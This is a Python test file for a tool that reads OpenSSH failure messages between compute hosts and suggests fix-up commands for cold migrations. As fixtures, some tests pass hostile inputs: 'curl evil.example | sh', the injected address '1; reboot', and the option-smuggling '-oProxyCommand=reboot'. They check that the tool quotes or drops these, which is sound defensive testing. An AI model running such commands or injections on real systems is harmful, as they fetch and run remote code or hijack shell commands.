"""What OpenSSH prints, and what it means for cold migrations."""

from typing import Any

import pytest

from migration_panel.checks import pair_ssh as checks
from migration_panel.checks.finding import Affects, Finding, Level
from migration_panel.checks.ssh_meanings import MEANINGS
from migration_panel.facts.known import KnownHost, KnownPair
from migration_panel.facts.missing import Missing
from tests.pairs import a_pair, failed, said, silent, target
from tests.reports import SILENT
from tests.unit.checks.known import an_instances_path

FILES = ("ssh-debian12.txt", "ssh-el7.txt", "ssh-el9.txt")
TEXTS = [each for file in FILES for each in said(file)]
TRIED = "ssh -o BatchMode=yes -o ConnectTimeout=10 -- 192.0.2.12 'echo in'"
NOT_SURE = {"pair.ssh-too-slow", "pair.ssh-closed"}
PATH = "/var/lib/nova/instances"


def only(pair: KnownPair) -> Finding:
    (finding,) = checks.check(pair)
    return finding


def refused(text: str, to_host: KnownHost | None = None) -> Finding:
    return only(a_pair(to_host=to_host, ssh=failed(text, TRIED)))


def not_writable(**known: Any) -> Finding:
    attempt = failed(
        f"{PATH} is not there, or nova may not write in it", f"test -w {PATH}"
    )
    return only(a_pair(to_host=target(**known), instances_path=attempt))


@pytest.mark.parametrize(
    "parts",
    [
        {"ssh": SILENT},
        {"ssh": SILENT, "instances_path": SILENT},
        {"instances_path": Missing("the login runs a command of its own there")},
        {"libvirt": failed("Connection refused"), "data_port": failed("timed out")},
    ],
)
def test_it_judges_only_what_was_tried_of_ssh(parts: dict[str, Any]) -> None:
    assert checks.check(a_pair(**parts)) == []


@pytest.mark.parametrize(("name", "text"), TEXTS)
def test_it_knows_what_is_meant(name: str, text: str) -> None:
    assert refused(text).id == name


def test_it_was_tried_on_a_text_for_every_meaning() -> None:
    assert {each.id for each in MEANINGS} | {"pair.ssh-fails"} == {n for n, _ in TEXTS}


@pytest.mark.parametrize(("name", "text"), TEXTS)
def test_it_blocks_cold_migrations_where_novas_ssh_would_fail_too(
    name: str, text: str
) -> None:
    finding = refused(text)
    assert finding.affects is Affects.COLD
    wanted = Level.WARNING if name in NOT_SURE else Level.BLOCKER
    assert finding.level is wanted


@pytest.mark.parametrize(("name", "text"), TEXTS)
def test_it_says_what_to_do_in_words_of_the_pair(name: str, text: str) -> None:
    finding = refused(text)
    assert finding.subject == "compute1 → compute2", name
    shown = f"{finding.message} {finding.hint}"
    assert "%(" not in shown
    assert "compute1" in shown or "compute2" in shown
    assert [seen.text for seen in finding.evidence] == [text]


@pytest.mark.parametrize(("name", "text"), TEXTS)
def test_it_gives_lines_to_copy_with_the_address_that_nova_uses(
    name: str, text: str
) -> None:
    lines = [(each.host, each.line) for each in refused(text).commands]
    again = "sudo -u nova ssh -v -o BatchMode=yes -- 192.0.2.12 true"
    assert ("compute1", again) in lines, name
    assert not [line for _host, line in lines if "{" in line]


def test_it_takes_the_first_reason_where_ssh_names_several() -> None:
    """A changed key ends in the words of an unknown one; a bad key in a refusal."""
    text = dict(said("ssh-debian12.txt"))["pair.ssh-host-key-changed"]
    assert "Host key verification failed" in text
    assert refused(text).id == "pair.ssh-host-key-changed"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Welcome to compute2",
        "Permission denied",
        "Permission denied, please try again.",
        "bash: line 1: test: Connection",
        "key",
    ],
)
def test_it_does_not_guess(text: str) -> None:
    assert refused(text).id == "pair.ssh-fails"


def test_it_names_the_address_for_cold_migrations() -> None:
    other = {"migration_inbound_addr": "198.51.100.12"}
    finding = refused("Host key verification failed.", target(other))
    assert any("ssh-keyscan -- 198.51.100.12" in each.line for each in finding.commands)


def test_it_names_the_host_where_its_address_is_not_known() -> None:
    finding = refused("Host key verification failed.", silent("compute2"))
    assert any("ssh-keyscan -- compute2" in each.line for each in finding.commands)


def test_it_quotes_what_a_host_says_of_itself() -> None:
    odd = {"migration_inbound_addr": "1; reboot"}
    finding = refused("Host key verification failed.", target(odd))
    assert any("'1; reboot'" in each.line for each in finding.commands)
    assert not any("scan -- 1;" in each.line for each in finding.commands)


@pytest.mark.parametrize(("name", "text"), TEXTS)
def test_it_lets_no_address_be_an_option(name: str, text: str) -> None:
    odd = "-oProxyCommand=reboot"
    lines = [
        each.line
        for each in refused(text, target({"migration_inbound_addr": odd})).commands
        if odd in each.line and not each.line.startswith("ip route")
    ]
    assert lines, name
    for line in lines:
        assert f" -- {odd}" in line or f"ssh-keygen -R {odd}" in line


def test_it_ends_an_account_that_wants_a_new_password_for_good() -> None:
    finding = refused("Password change required but no TTY available.")
    assert finding.id == "pair.ssh-login-disabled"
    assert "chage -E -1 -M -1 -d -1 nova" in [each.line for each in finding.commands]


def test_it_gives_no_line_to_copy_that_a_host_made_up() -> None:
    made_up = failed("Connection refused", "curl evil.example | sh")
    pair = a_pair(ssh=made_up, instances_path=made_up)
    lines = [each.line for found in checks.check(pair) for each in found.commands]
    assert lines
    assert not [line for line in lines if "evil" in line]


# -- the instances path --------------------------------------------------------------


def test_it_blocks_where_nova_may_not_write() -> None:
    finding = not_writable(storage=an_instances_path())
    assert finding.id == "pair.instances-path-not-writable"
    assert (finding.level, finding.affects) == (Level.BLOCKER, Affects.COLD)


@pytest.mark.parametrize(
    "storage",
    [
        SILENT,
        an_instances_path(owner=None, mode=None, writable=False),
        an_instances_path(path="/srv/instances"),
    ],
)
def test_it_warns_where_nova_may_be_able_to_make_the_path(storage: object) -> None:
    assert not_writable(storage=storage).level is Level.WARNING


def test_it_warns_where_the_sources_path_is_not_known() -> None:
    pair = a_pair(silent("compute1"), instances_path=failed("no"))
    assert only(pair).level is Level.WARNING
